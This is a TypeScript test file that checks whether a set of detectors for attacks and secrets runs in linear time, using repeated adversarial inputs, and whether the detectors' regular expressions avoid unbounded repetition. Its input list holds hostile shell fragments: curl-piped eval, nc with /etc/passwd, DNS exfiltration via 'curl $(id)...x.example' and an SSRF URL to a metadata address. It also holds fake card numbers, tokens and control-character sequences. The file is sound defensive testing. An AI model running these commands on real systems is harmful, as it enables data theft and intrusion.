import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type AST, parseRegExpLiteral, visitRegExpAST } from '@eslint-community/regexpp';
import ts from 'typescript';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { DETECTORS } from '../../../src/rules/detectors/index.ts';
import { StepCounter } from './steps.ts';

/** What each kind of detector works hardest on, to be repeated: openings without an end, candidates that fail late. */
const ATTACKS = [
  'eval "$(base64 -d <<< x | base64 -d ',
  'eval "$(curl x | base64 -d) ',
  'bash -c "$(curl x)" | base64 -d | ',
  '$(base64 -d | ',
  'base64 -d | sudo ',
  'curl x; wget y | sudo env A=b ',
  'sudo -u -x ',
  "c''a\\t$@\\x",
  '"`$(\'',
  "rm -rf 'x' ; cat /etc/passwd | nc -e ; ",
  '/b?n/b*sh /etc/p[a]sswd a=b;$a$b ',
  '{cat,/etc/passwd} ',
  '4539 1488-0343 ',
  '45391488034364671',
  'card 4539148803436467 ',
  'DE89 3704 0044 0532 0130 ',
  'DE89370400440532013000 ',
  'ssn 123-45-6788 nino AB 12 34 56 A ',
  'secret_token = "aB3dE6gH9jK2mN5pQ8" ',
  'password: aB3dE6gH9jK2 ',
  'heroku token 0aB3dE6gH9jK2mN5pQ8rS ',
  'a.b-c_d',
  '![a](https://x.test/?q=',
  '![[[](<img src= src=',
  'curl $(id).$(id).x.example ',
  'http://1@2@3@0x7f.1/',
  'http://[::ffff:1.2.3.4%25a]@169.254.169.254 ',
  'SG.aaaaaaaaaaaaaaaa.key-0123456789abcdef0123456789abcdef-',
  '110201543:AAHdqTcvCH1v okta 00',
  '\u{E0069}\u{1F3F4}\u{E0067}',
  'a\u200Bb\u202E\u0301\uFE0F\u001B[8m\u001B]52;c;',
] as const;
const SIZE = 1_000;
/** So much longer that no rounding of counts hides a square, which would be as many times more work again. */
const LONGER = 8;
const counter = new StepCounter();

function repeated(piece: string, length: number): string {
  return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
}

beforeAll(() => counter.start());
afterAll(() => counter.stop());

describe('case 60: the work of a detector grows as its text does', () => {
  test.each([...DETECTORS])('%s', async (_, detector) => {
    const drain = (text: string) => () => void [...detector.find(text)];
    for (const attack of ATTACKS) {
      // Once before: what is made lazily is made then. Another text: what was just taken apart is remembered.
      drain(repeated(attack, SIZE - 1))();
      const once = await counter.of(drain(repeated(attack, SIZE)));
      const more = await counter.of(drain(repeated(attack, LONGER * SIZE)));
      expect(more, attack).toBeLessThanOrEqual(2 * LONGER * once + 300);
    }
  });

  test('the counter sees a quadratic one', async () => {
    const leaves = await import('../../../src/rules/detectors/leaves.ts');
    const square = (size: number) => () => {
      for (let at = 0; at < size; at += 1) leaves.leaves(JSON.stringify(Array(at).fill('a b')));
    };
    expect(await counter.of(square(120))).toBeGreaterThan(3 * (await counter.of(square(60))));
  });
});

const folder = join(import.meta.dirname, '../../../src/rules/detectors');
const patterns = readdirSync(folder, { recursive: true, encoding: 'utf8' })
  .filter((name) => name.endsWith('.ts'))
  .flatMap((name) => literalsOf(name));

function literalsOf(name: string): (readonly [string, string])[] {
  const found: (readonly [string, string])[] = [];
  const source = ts.createSourceFile(name, readFileSync(join(folder, name), 'utf8'), ts.ScriptTarget.Latest);
  const walk = (node: ts.Node): void => {
    if (ts.isRegularExpressionLiteral(node)) found.push([name, node.text]);
    ts.forEachChild(node, walk);
  };
  walk(source);
  return found;
}

/** Only where nothing else can begin is a repetition without a bound harmless: it is tried once, not at every place. */
function isAnchored(literal: AST.RegExpLiteral): boolean {
  return (
    literal.flags.sticky ||
    literal.pattern.alternatives.every(
      ({ elements }) => elements[0]?.type === 'Assertion' && elements[0].kind === 'start',
    )
  );
}

describe('case 61: no regular expression of a detector repeats without a bound', () => {
  test.each(patterns)('%s %s', (_, text) => {
    const literal = parseRegExpLiteral(text);
    const unbounded: string[] = [];
    visitRegExpAST(literal, {
      onQuantifierEnter: (node) => {
        if (node.max === Number.POSITIVE_INFINITY) unbounded.push(node.raw);
      },
    });
    expect(isAnchored(literal) ? [] : unbounded).toEqual([]);
  });
});
